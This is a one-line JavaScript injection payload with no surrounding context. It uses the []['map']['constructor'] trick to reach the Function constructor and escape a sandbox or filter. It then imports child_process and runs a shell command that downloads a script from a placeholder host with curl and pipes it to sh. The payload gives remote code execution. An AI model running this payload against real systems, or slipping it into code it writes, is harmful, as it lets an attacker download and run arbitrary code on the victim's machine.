[]['map']['constructor']('return import("child_process").then((c) => c.exec("curl -s https://x.example.invalid/a | sh"))')();
